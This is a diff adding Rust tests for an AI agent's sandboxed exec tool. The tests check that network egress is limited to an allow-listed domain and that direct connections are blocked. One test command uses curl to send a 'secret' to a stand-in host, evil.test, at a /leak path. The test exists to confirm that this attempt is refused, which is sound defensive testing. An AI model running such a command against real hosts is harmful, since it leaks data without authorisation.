@@ -254,3 +254,83 @@ except OSError as e:
     );
     assert_eq!(proxy.refused().len(), 1, "{:?}", proxy.refused());
 }
+
+/// `exec` settings with `allowed.test` allowed through the proxy, under `sandbox`.
+fn egress_exec(sandbox: nanobot_tools::ExecSandbox) -> nanobot_tools::ExecSettings {
+    let guard = SsrfGuard::from_cidrs(&["127.0.0.1/32"])
+        .unwrap()
+        .with_resolver(Arc::new(TestDns));
+    let mut egress = egress::EgressSettings::new(DomainList::new(&["allowed.test"]), guard);
+    egress.bridge = Some(bridge_program());
+    nanobot_tools::ExecSettings {
+        sandbox,
+        parent_env: std::env::vars().collect(),
+        egress: Some(egress),
+        ..nanobot_tools::ExecSettings::default()
+    }
+}
+
+async fn exec(settings: nanobot_tools::ExecSettings, command: &str) -> String {
+    let ws = tempfile::tempdir().unwrap();
+    let reg = nanobot_tools::ToolRegistry::default();
+    let sandbox = nanobot_tools::sandbox::Sandbox::new(ws.path(), false);
+    nanobot_tools::builtin::register_exec_tool(&reg, &settings, &sandbox).unwrap();
+    reg.execute(
+        "exec",
+        serde_json::json!({"command": command}),
+        &crate::ctx(ws.path()),
+    )
+    .await
+    .text
+}
+
+#[tokio::test]
+async fn exec_reaches_only_the_allowed_domains_and_the_answer_names_what_was_refused() {
+    if let Err(why) = &nanobot_tools::confine::kernel_support().bwrap {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "CI is set but bubblewrap cannot run here: {why}"
+        );
+        println!("skipped: {why}");
+        return;
+    }
+    let port = web_server().await;
+    let out = exec(
+        egress_exec(nanobot_tools::ExecSandbox::Bwrap),
+        &format!(
+            "curl -sS --max-time 10 http://allowed.test:{port}/; \
+             curl -sS -o /dev/null --max-time 10 http://evil.test:{port}/leak?note=secret; \
+             curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; echo \"direct=$?\""
+        ),
+    )
+    .await;
+    assert!(out.contains(&format!("hello from allowed.test:{port}")), "{out}");
+    assert!(!out.contains("direct=0"), "{out}");
+    // The model reads which domain was refused and how to allow it, whatever the command printed.
+    assert!(
+        out.contains(
+            "Network: nanobot refused the connection to evil.test: it is not in tools.network.allowedDomains \
+             (add it there to allow it)"
+        ),
+        "{out}"
+    );
+}
+
+#[tokio::test]
+async fn under_landlock_alone_a_command_has_no_network_at_all() {
+    if let Err(why) = &nanobot_tools::confine::kernel_support().landlock {
+        println!("skipped: {why}");
+        return;
+    }
+    let port = web_server().await;
+    let out = exec(
+        egress_exec(nanobot_tools::ExecSandbox::Landlock),
+        &format!(
+            "curl -sS --max-time 5 http://allowed.test:{port}/; echo \"proxied=$?\"; \
+             curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; echo \"direct=$?\""
+        ),
+    )
+    .await;
+    assert!(!out.contains("hello from"), "{out}");
+    assert!(!out.contains("proxied=0") && !out.contains("direct=0"), "{out}");
+}
